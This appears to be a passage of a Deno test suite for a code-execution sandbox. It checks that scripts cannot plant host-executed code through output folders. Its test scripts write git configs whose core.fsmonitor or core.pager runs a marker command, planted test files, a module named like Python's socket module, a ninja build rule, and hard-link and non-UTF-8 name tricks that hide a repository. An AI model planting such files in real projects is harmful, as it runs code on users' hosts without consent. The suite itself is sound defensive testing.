      const ran = await exists(marker);
      await Deno.remove(join(PROJECT, folder), { recursive: true }).catch(() => {});
      assert.equal(ran, false, "git ran the planted core.fsmonitor on the host");
    },
  });
}

// Code in an output folder: test runners find tests anywhere below where they start (`deno test`,
// pytest, `node --test`, `go test ./...`), and an interpreter started in a folder imports from it
// first (a `socket.py` beside `python3 -m http.server`, run to look at a report). Moved in, each
// ran on the host.
const codeMarker = join(ROOT, "planted-code-ran");
const plantedCode: Record<string, string> = {
  "evil_test.ts": `Deno.writeTextFileSync(${JSON.stringify(codeMarker)}, "deno test");\n`,
  "test_evil.py": `open(${JSON.stringify(codeMarker)}, "w").write("pytest")\n`,
  "evil.test.js": `require("fs").writeFileSync(${JSON.stringify(codeMarker)}, "node --test");\n`,
  "socket.py": `open(${JSON.stringify(codeMarker)}, "w").write("python -m")\n`,
  "report/x_test.go": "package report\n",
  // Native code Python loads before the standard library's module, and ninja's build file.
  "lib/socket.so": "ELF",
  "lib/socket.cpython-311-x86_64-linux-gnu.so": "ELF",
  "build/build.ninja": `rule r\n  command = touch ${codeMarker}\nbuild all: r\n`,
};
attack({
  name:
    "plant test files, a module named as the standard library's, native code and a build file in an output folder",
  language: "python",
  context: { output: "code-out/" },
  script: py(`for rel, text in json.loads(${JSON.stringify(JSON.stringify(plantedCode))}).items():
    os.makedirs(os.path.dirname(os.path.join("code-out", rel)), exist_ok=True)
    open(os.path.join("code-out", rel), "w").write(text)
    artifacts.append("code-out/" + rel)
detail = "planted"`),
  blockedBy: [ExecError],
  hostUnchanged: async () => {
    const moved = [];
    for (const rel of Object.keys(plantedCode)) {
      if (await exists(join(PROJECT, "code-out", rel))) moved.push(rel);
    }
    await Deno.remove(join(PROJECT, "code-out"), { recursive: true }).catch(() => {});
    assert.deepEqual(moved, [], "code was moved into the project");
  },
});

// What the walk after the run does not list hides what it holds: a folder handed to another user
// (a script run as root under Deno's flags alone may chown), or closed to its owner. And git
// takes a folder for a repository through a `commondir` file as well as through objects/ and
// refs/ beside its HEAD.
{
  const marker = join(ROOT, "fsmonitor-handed");
  const config = "[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n" +
    `\\tworktree = .\\n\\tfsmonitor = \\"touch ${marker}; false\\"\\n`;
  attack({
    name: "hide a repository below a folder handed to another user in an output written in place",
    language: "typescript",
    context: { output: "out-handed/" },
    options: { sandbox: false },
    script: ts(`Deno.mkdirSync("out-handed/a/b/.git/objects", { recursive: true });
Deno.mkdirSync("out-handed/a/b/.git/refs/heads", { recursive: true });
Deno.writeTextFileSync("out-handed/a/b/.git/HEAD", "ref: refs/heads/main\\n");
Deno.writeTextFileSync("out-handed/a/b/.git/config", "${config}");
try {
  Deno.chownSync("out-handed/a", 54321, 54321);
} catch {
  Deno.chmodSync("out-handed/a", 0o000);
}
detail = "planted";`),
    hostUnchanged: async () => {
      const inner = join(PROJECT, "out-handed", "a", "b");
      await Deno.chmod(join(PROJECT, "out-handed", "a"), 0o755).catch(() => {});
      await gitStatusIn(inner);
      const ran = await exists(marker);
      const left = await exists(join(inner, ".git"));
      await Deno.remove(join(PROJECT, "out-handed"), { recursive: true }).catch(() => {});
      assert.equal(ran || left, false, `git ran its core.fsmonitor: ${ran}; left: ${left}`);
    },
  });
}
{
  const marker = join(ROOT, "pager-commondir");
  attack({
    name: "make a repository through a commondir file in a folder granted for writing",
    language: "python",
    allow: { write: ["granted-commondir"] },
    before: () => Deno.mkdir(join(PROJECT, "granted-commondir"), { recursive: true }),
    script: py(`os.makedirs("granted-commondir/c/objects", exist_ok=True)
os.makedirs("granted-commondir/c/refs/heads", exist_ok=True)
open("granted-commondir/HEAD", "w").write("ref: refs/heads/main\\n")
open("granted-commondir/commondir", "w").write("c\\n")
open("granted-commondir/c/config", "w").write("[core]\\n\\tpager = touch ${marker}; cat\\n")
detail = "planted"`),
    hostUnchanged: async () => {
      const folder = join(PROJECT, "granted-commondir");
      const gitDir = await new Deno.Command("git", {
        args: ["rev-parse", "--git-dir"],
        cwd: folder,
        stdout: "piped",
        stderr: "null",
      }).output();
      const repository = new TextDecoder().decode(gitDir.stdout).trim() === ".";
      await Deno.remove(folder, { recursive: true }).catch(() => {});
      assert.equal(repository, false, "git takes the granted folder for a repository");
    },
  });
}

// A second name of a file (a hard link) is a name of its own: a bare repository whose HEAD is a
// second name of a file the walk met first under an innocuous one ran its core.fsmonitor.
{
  const marker = join(ROOT, "fsmonitor-hardlink-grant");
  const config = "[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n" +
    `\\tworktree = .\\n\\tfsmonitor = \\"touch ${marker}; false\\"\\n`;
  attack({
    name: "hard-linked HEAD hides a bare repository in a granted folder",
    language: "python",
    allow: { write: ["granted-hl"] },
    before: () => Deno.mkdir(join(PROJECT, "granted-hl"), { recursive: true }),
    script: py(`d = "granted-hl/r"
os.makedirs(d + "/objects", exist_ok=True)
os.makedirs(d + "/refs/heads", exist_ok=True)
open(d + "/config", "w").write("${config}")
open(d + "/notes0.txt", "w").write("ref: refs/heads/main\\n")
os.link(d + "/notes0.txt", d + "/HEAD")
i = 0
# an innocuous name that the folder lists before HEAD (ext4 lists in hash order)
while os.listdir(d).index("HEAD") < min(os.listdir(d).index(n) for n in os.listdir(d) if n.startswith("notes")):
    i += 1
    os.link(d + "/notes0.txt", d + "/notes%d.txt" % i)
detail = "planted, order: " + ",".join(os.listdir(d))`),
    hostUnchanged: async () => {
      const dir = join(PROJECT, "granted-hl", "r");
      await gitStatusIn(dir);
      const ran = await exists(marker);
      await Deno.remove(join(PROJECT, "granted-hl"), { recursive: true }).catch(() => {});
      assert.equal(ran, false, "git ran the planted core.fsmonitor on the host");
    },
  });
}

// The same with TypeScript under Deno's flags alone (Deno.linkSync needs only --allow-write):
// test_evil.py and HEAD as second names of files the walk meets first.
{
  const d = "out-hl";
  attack({
    name: "hard-link a test file and a HEAD in an output written in place (flags alone)",
    language: "typescript",
    context: { output: `${d}/` },
    options: { sandbox: false },
    script: ts(`const d = "${d}";
Deno.mkdirSync(d + "/objects", { recursive: true });
Deno.mkdirSync(d + "/refs/heads", { recursive: true });
Deno.writeTextFileSync(d + "/a0.txt", "ref: refs/heads/main\\n");
Deno.writeTextFileSync(d + "/b0.txt", "print('planted')\\n");
const order = () => [...Deno.readDirSync(d)].map((e) => e.name);
const plant = (src: string, dst: string, prefix: string) => {
  Deno.linkSync(d + "/" + src, d + "/" + dst);
  for (let i = 1; i < 200 && order().indexOf(dst) < Math.min(...order().filter((n) => n.startsWith(prefix)).map((n) => order().indexOf(n))); i++) {
    Deno.linkSync(d + "/" + src, d + "/" + prefix + i + ".txt");
  }
};
plant("a0.txt", "HEAD", "a");
plant("b0.txt", "test_evil.py", "b");
detail = "planted";`),
    hostUnchanged: async () => {
      const left = [];
      for (const name of ["HEAD", "test_evil.py"]) {
        if (await exists(join(PROJECT, d, name))) left.push(name);
      }
      await Deno.remove(join(PROJECT, d), { recursive: true }).catch(() => {});
      assert.deepEqual(left, [], "a second name tools trust was left in the project");
    },
  });
}

// A folder with one name that is not UTF-8 is closed to others; below the names it can reach, the
// walk still looks: a bare repository one folder down ran its core.fsmonitor.
{
  const marker = join(ROOT, "fsmonitor-nonutf8-grant");
  const config = "[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n" +
    `\\tworktree = .\\n\\tfsmonitor = \\"touch ${marker}; false\\"\\n`;
  attack({
    name: "a name that is not UTF-8 hides a bare repository one folder down in a granted folder",
    language: "python",
    allow: { write: ["granted-nu"] },
    before: () => Deno.mkdir(join(PROJECT, "granted-nu"), { recursive: true }),
    script: py(`d = "granted-nu/d/r"
os.makedirs(d + "/objects", exist_ok=True)
os.makedirs(d + "/refs/heads", exist_ok=True)
open(d + "/config", "w").write("${config}")
open(d + "/HEAD", "w").write("ref: refs/heads/main\\n")
open(b"granted-nu/d/\\xff", "w").write("x")
detail = "planted"`),
    hostUnchanged: async () => {
      const dir = join(PROJECT, "granted-nu", "d", "r");
      await gitStatusIn(dir);
      const ran = await exists(marker);
      await Deno.remove(join(PROJECT, "granted-nu"), { recursive: true }).catch(() => {});
      assert.equal(ran, false, "git ran the planted core.fsmonitor on the host");
    },
  });
}

Deno.test(escapeSuite("copy-out and the host", { atLeast: { sandbox: 52, noSandbox: 10 } }));
